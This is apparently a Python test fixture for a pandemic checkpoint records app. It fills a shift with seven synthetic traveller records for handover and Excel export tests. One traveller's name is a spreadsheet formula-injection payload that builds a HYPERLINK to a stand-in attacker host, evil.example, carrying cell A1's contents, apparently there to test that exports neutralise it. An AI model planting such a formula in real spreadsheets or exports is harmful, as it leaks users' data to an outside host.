"""A shift filled with known records, for the handover and Excel tests (domain and GUI)."""

from __future__ import annotations

from datetime import UTC, datetime, timedelta, timezone

from sqlite_utils import Database

from checkpoint_app.records.model import CodeColour, Disposition, NatResult, TravellerRecord
from checkpoint_app.storage.records import RecordFlags, RecordRepository
from checkpoint_app.storage.timefmt import to_db_time

BEIJING = timezone(timedelta(hours=8))
SHIFT_START = datetime(2022, 4, 10, 0, 0, tzinfo=UTC)  # 08:00 in Shangshui
NOW = datetime(2022, 4, 10, 4, 30, tzinfo=UTC)  # 12:30 there
CANARY_ID = "411623199004151232"
INJECTED_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"点我")'

# (minutes after the shift started, disposition, colour, fever, NAT expired)
TRAVELLERS = (
    (10, Disposition.RELEASE, CodeColour.GREEN, False, False),
    (40, Disposition.RELEASE_TEST, CodeColour.GREEN, False, False),
    (65, Disposition.TURN_BACK, CodeColour.YELLOW, False, False),
    (80, Disposition.CENTRAL_QUARANTINE, CodeColour.RED, False, False),
    (135, Disposition.FEVER_CLINIC, CodeColour.GREEN, True, False),
    (170, Disposition.HOME_QUARANTINE, CodeColour.YELLOW, False, True),
    (175, Disposition.RELEASE, CodeColour.GREEN, False, True),
)


def traveller(index: int, shift_id: int, staff_id: int) -> TravellerRecord:
    minutes, disposition, colour, fever, _ = TRAVELLERS[index]
    return TravellerRecord(
        uuid=f"00000000-0000-4000-8000-{index:012d}",
        checked_at=SHIFT_START + timedelta(minutes=minutes),
        disposition=disposition,
        document_number=CANARY_ID[:-1] + str(index),
        name=INJECTED_NAME if index == 0 else f"张{'伟明'[: 1 + index % 2]}",
        phone=f"1381234567{index}",
        plate="豫P12345",
        origin_name="上海市浦东新区" if disposition is Disposition.TURN_BACK else "周口市川汇区",
        destination_township="谭庄镇",
        reason="返乡",
        temperature=38.1 if fever else 36.5,
        health_colour=colour,
        travel_colour=colour,
        travel_cities=("上海市*",) if colour is CodeColour.YELLOW else (),
        nat_result=NatResult.NEGATIVE,
        nat_sampled_at=SHIFT_START - timedelta(hours=60 if TRAVELLERS[index][4] else 20),
        shift_id=shift_id,
        staff_id=staff_id,
    )


def fill_shift(db: Database, shift_id: int, staff_id: int) -> list[TravellerRecord]:
    """Seven travellers in `shift_id` (one of them corrected once), a record of another
    shift, the shift starting at SHIFT_START; the first two versions synced."""
    db.execute("UPDATE shifts SET started_at = ? WHERE id = ?", [to_db_time(SHIFT_START), shift_id])
    repo = RecordRepository(db)
    saved = []
    for i, (_, _, _, fever, expired) in enumerate(TRAVELLERS):
        record = traveller(i, shift_id, staff_id)
        repo.save(record, flags=RecordFlags(fever, expired), staff_id=staff_id)
        saved.append(record)
    turned_back = saved[2]
    repo.correct(
        turned_back.corrected(notes="已联系上海返回"),
        flags=RecordFlags(False, False),
        reason="补充备注",
        staff_id=staff_id,
    )
    with db.atomic():
        other = db.execute(
            "INSERT INTO shifts (staff_id, started_at, ended_at) VALUES (?, ?, ?)",
            [staff_id, "2022-04-09T00:00:00.000+00:00", "2022-04-09T12:00:00.000+00:00"],
        ).lastrowid
    assert other is not None
    repo.save(
        TravellerRecord(
            uuid="00000000-0000-4000-8000-999999999999",
            checked_at=datetime(2022, 4, 9, 3, 0, tzinfo=UTC),
            disposition=Disposition.CENTRAL_QUARANTINE,
            health_colour=CodeColour.RED,
            shift_id=other,
            staff_id=staff_id,
        ),
        flags=RecordFlags(False, False),
    )
    db.execute(
        "UPDATE outbox SET synced_at = ? WHERE record_uuid IN (?, ?)",
        [to_db_time(NOW), saved[0].uuid, saved[1].uuid],
    )
    db.conn.commit()
    return saved
